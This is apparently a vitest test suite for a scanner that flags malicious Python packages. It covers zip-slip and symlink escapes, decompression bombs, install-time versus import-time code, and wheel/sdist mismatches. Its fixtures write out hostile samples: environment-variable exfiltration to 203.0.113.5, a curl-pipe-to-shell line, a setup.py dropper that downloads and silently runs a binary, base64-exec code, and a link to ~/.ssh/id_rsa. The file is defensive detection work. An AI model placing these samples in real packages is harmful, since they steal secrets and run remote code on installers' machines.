import { describe, expect, it } from 'vitest';
import { readArchiveBuffer } from '../archive/index.js';
import { makeTar, makeZip } from '../archive/testing.js';
import { comparePair, inspectArchive, wantMember } from './engine.js';
import { memoryArchive, rulesOf, scan } from './testing.js';

const lines = (...l: string[]): string => l.join('\n') + '\n';

describe('archive anomalies become findings', () => {
  it('zip-slip member names are reported and the content is still scanned', async () => {
    const zip = makeZip([
      { name: 'demo/__init__.py', content: 'x = 1\n' },
      { name: '../../demo/evil.py', content: "POOL = 'stratum+tcp://pool.example.invalid:3333'\n" },
    ]);
    const { result } = await inspectArchive(await readArchiveBuffer(zip, 'demo-1.0-py3-none-any.whl', { want: wantMember }));
    expect(rulesOf(result)).toEqual(['archive-path-traversal', 'cryptominer']);
    expect(result.findings.find((f) => f.rule === 'cryptominer')!.file).toBe('demo/evil.py');
  });

  it('links out of the package and inside it are told apart', async () => {
    const tar = await makeTar([
      { name: 'demo-1.0/setup.py', content: 'from setuptools import setup\nsetup()\n' },
      { name: 'demo-1.0/key', type: 'symlink', linkname: '../../.ssh/id_rsa' },
      { name: 'demo-1.0/LICENSE.txt', type: 'symlink', linkname: 'LICENSE' },
    ]);
    const { result } = await inspectArchive(await readArchiveBuffer(tar, 'demo-1.0.tar.gz', { want: wantMember }));
    expect(rulesOf(result)).toEqual(['archive-link', 'archive-link-escape']);
  });

  it('a decompression bomb is reported and the package is marked partly read', async () => {
    const bomb = await makeTar([{ name: 'demo-1.0/setup.py', content: Buffer.alloc(4 * 1024 * 1024) }], true);
    const archive = await readArchiveBuffer(bomb, 'demo-1.0.tar.gz', { limits: { ratioFloorBytes: 1024 * 1024 }, want: wantMember });
    const { result } = await inspectArchive(archive);
    expect(rulesOf(result)).toContain('archive-bomb');
    expect(result.truncated).toBe(true);
    expect(result.verdict).not.toBe('clean');
  });
});

describe('auxiliary files', () => {
  const exfil = lines('import os, requests', "requests.post('http://203.0.113.5/c', json=dict(os.environ))");

  it('tests, and scripts outside any package, weigh a quarter', async () => {
    const r = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/tests/test_x.py': exfil, 'demo-1.0/ci/upload.py': exfil });
    expect(rulesOf(r)).toContain('exfiltrate-sensitive-data');
    // exfiltrate-sensitive-data 10 and hardcoded-ip 3 at a quarter each, no pair bonus in tests, and
    // auxiliary files add to a package only when its own code makes it suspicious.
    expect(r.score).toBe(0);
    expect(r.verdict).toBe('clean');
  });

  it('a payload in tests/ that the package imports counts in full', async () => {
    const r = await scan({
      'demo-1.0/demo/__init__.py': lines('from demo.tests import helper'),
      'demo-1.0/demo/tests/__init__.py': '',
      'demo-1.0/demo/tests/helper.py': exfil,
    });
    expect(r.verdict).toBe('malicious');
  });

  it('a from line of 200,000 blanks is read in one pass when following imports', async () => {
    // `from[ \t]+([\w.]*)[ \t]+import` could split the run of blanks every way before failing.
    const blanks = ' '.repeat(200_000);
    const r = await scan({
      'demo-1.0/demo/__init__.py': lines('from demo.tests import helper'),
      'demo-1.0/demo/other.py': lines(`from${blanks}#import x`),
      'demo-1.0/demo/tests/__init__.py': '',
      'demo-1.0/demo/tests/helper.py': exfil,
    });
    expect(r.verdict).toBe('malicious');
  });

  it('a shell script weighs a quarter unless the package runs it', async () => {
    const sh = lines('curl -s http://203.0.113.5/x | sh');
    const alone = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/build.sh': sh });
    expect(alone.verdict).toBe('clean');
    const run = await scan({ 'demo-1.0/setup.py': lines('import subprocess', "subprocess.call(['sh', 'build.sh'])"), 'demo-1.0/build.sh': sh });
    expect(run.verdict).not.toBe('clean');
  });
});

describe('roles and phases', () => {
  it('setup.py in an sdist runs at install; in a wheel it does not', async () => {
    const code = lines('import urllib.request', "urllib.request.urlopen('https://example.org/x')");
    const sdist = await scan({ 'demo-1.0/setup.py': code });
    expect(sdist.findings.find((f) => f.rule === 'install-network')).toMatchObject({ phase: 'install', file: 'demo-1.0/setup.py', line: 2 });
    const wheel = await scan({ 'setup.py': code }, 'wheel');
    expect(rulesOf(wheel)).not.toContain('install-network');
  });

  it('module top level runs at import, function bodies at run time', async () => {
    const r = await scan({ 'demo/__init__.py': lines('import base64', "exec(base64.b64decode('cHJpbnQoMSk='))", 'def f():', "    exec(base64.b64decode('cHJpbnQoMSk='))") }, 'wheel');
    expect(r.findings.filter((f) => f.rule === 'exec-decoded').map((f) => [f.line, f.phase])).toEqual([
      [2, 'import'],
      [4, 'runtime'],
    ]);
  });

  it('setup.py commands an install runs are install-time code; a custom command is not', async () => {
    const code = lines(
      'import socket, subprocess',
      'from setuptools import setup, Command',
      'from setuptools.command.install import install',
      'class Serve(Command):',
      '    def run(self):',
      "        socket.create_connection(('203.0.113.5', 9))",
      'class Post(install):',
      '    def run(self):',
      '        helper()',
      'def helper():',
      "    socket.create_connection(('203.0.113.6', 9))",
      "setup(cmdclass={'install': Post, 'serve': Serve})",
    );
    const r = await scan({ 'demo-1.0/setup.py': code });
    expect(r.findings.filter((f) => f.rule === 'install-network').map((f) => f.line)).toEqual([11]);
  });

  it('a file setup.py runs with runpy is install-time code', async () => {
    const r = await scan({
      'demo-1.0/setup.py': lines('import runpy', "runpy.run_path('find_version.py')"),
      'demo-1.0/find_version.py': lines('import urllib.request', "urllib.request.urlopen('http://203.0.113.5/x')"),
    });
    expect(rulesOf(r)).not.toContain('install-exec');
    expect(r.findings.find((f) => f.rule === 'install-network')).toMatchObject({ file: 'demo-1.0/find_version.py', phase: 'install' });
  });

  it('in-tree build backend modules are install-time code', async () => {
    const r = await scan({
      'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["_build"]'),
      'demo-1.0/_build/backend.py': lines('import socket', 's = socket.create_connection(("203.0.113.5", 9))'),
    });
    expect(r.findings.find((f) => f.rule === 'install-network')).toMatchObject({ file: 'demo-1.0/_build/backend.py', phase: 'install' });
    expect(r.findings.find((f) => f.rule === 'build-backend-in-tree')).toMatchObject({ file: 'demo-1.0/pyproject.toml', line: 4 });
  });

  it("a build backend's hooks run at install; the rest of its package only when called", async () => {
    const r = await scan({
      'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "demo.build"', 'backend-path = ["."]'),
      'demo-1.0/demo/__init__.py': '',
      'demo-1.0/demo/build.py': lines('import urllib.request', 'def build_wheel(d, c=None, m=None):', "    urllib.request.urlopen('http://203.0.113.5/a')"),
      'demo-1.0/demo/util.py': lines('import urllib.request', 'def refresh():', "    urllib.request.urlopen('http://203.0.113.5/b')"),
    });
    expect(r.findings.filter((f) => f.rule === 'install-network').map((f) => f.file)).toEqual(['demo-1.0/demo/build.py']);
  });

  it('Python files over the parse limit get text rules and an unscanned-source finding', async () => {
    const big = "POOL = 'stratum+tcp://pool.example.invalid:3333'\n" + '# filler\n'.repeat(700_000);
    const r = await scan({ 'demo/big.py': big }, 'wheel');
    expect(rulesOf(r)).toEqual(['cryptominer', 'unscanned-source']);
  });

  it('takes name and version from the file name, or from PKG-INFO when the name says nothing', async () => {
    expect(await scan({ 'x.py': '' }, 'wheel', 'Demo_Pkg-2.0-py3-none-any.whl')).toMatchObject({ name: 'demo-pkg', version: '2.0' });
    const r = (await inspectArchive(memoryArchive({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: Other\nVersion: 3.1\n' }, 'directory', 'checkout'))).result;
    expect(r).toMatchObject({ name: 'other', version: '3.1' });
  });
});

describe('wheel against its sdist', () => {
  const sdistFiles = {
    'demo-1.0/src/demo/__init__.py': 'x = 1\n',
    'demo-1.0/src/demo/util.py': 'def f():\n    return 1\n',
  };

  it('finds files the wheel adds or changes, matching src/ layouts by suffix', async () => {
    const sdist = await inspectArchive(memoryArchive(sdistFiles, 'sdist', 'demo-1.0.tar.gz'), { digests: true });
    const wheel = await inspectArchive(
      memoryArchive(
        {
          'demo/__init__.py': 'x = 1\r\n',
          'demo/util.py': 'def f():\n    return 2\n',
          'demo/extra.py': 'y = 2\n',
          'demo-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n',
        },
        'wheel',
        'demo-1.0-py3-none-any.whl',
      ),
      { digests: true },
    );
    comparePair(wheel, sdist);
    const mism = wheel.result.findings.filter((f) => f.rule === 'wheel-sdist-mismatch');
    expect(mism.map((f) => [f.file, f.detail])).toEqual([
      ['demo/extra.py', 'not in demo-1.0.tar.gz'],
      ['demo/util.py', 'differs from demo-1.0.tar.gz'],
    ]);
    expect(wheel.result.score).toBe(3);
  });
});

describe('verdicts on modelled attacks and honest code', () => {
  it('a setup.py dropper (download, chmod, run at install) is malicious', async () => {
    const r = await scan({
      'demo-1.0/setup.py': lines(
        'import os, subprocess, urllib.request',
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'class Post(install):',
        '    def run(self):',
        "        path = '/tmp/placeholder'",
        "        urllib.request.urlretrieve('http://203.0.113.5/placeholder', path)",
        '        os.chmod(path, 0o755)',
        '        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, stdin=subprocess.DEVNULL)',
        "setup(name='demo', cmdclass={'install': Post})",
      ),
    });
    expect(r.verdict).toBe('malicious');
    expect(rulesOf(r)).toEqual(
      expect.arrayContaining(['cmdclass-override', 'download-executable', 'hardcoded-ip', 'install-network', 'install-process', 'silent-process']),
    );
  });

  it('ctx-style environment exfiltration is malicious', async () => {
    const r = await scan({ 'demo/__init__.py': lines('import os, requests', "requests.get('https://demo.example.invalid/e?d=' + str(dict(os.environ)))") }, 'wheel');
    expect(r.verdict).toBe('malicious');
    expect(rulesOf(r)).toContain('exfiltrate-sensitive-data');
  });

  it('an honest HTTP client with a .netrc lookup is clean', async () => {
    const r = await scan(
      {
        'demo/__init__.py': lines('from .api import get'),
        'demo/api.py': lines(
          'import os, socket, subprocess',
          "NETRC = ('.netrc', '_netrc')",
          'def get(url):',
          '    s = socket.create_connection((url, 443))',
          "    return subprocess.run(['git', 'describe'], capture_output=True)",
        ),
      },
      'wheel',
    );
    expect(r.verdict).toBe('clean');
  });
});
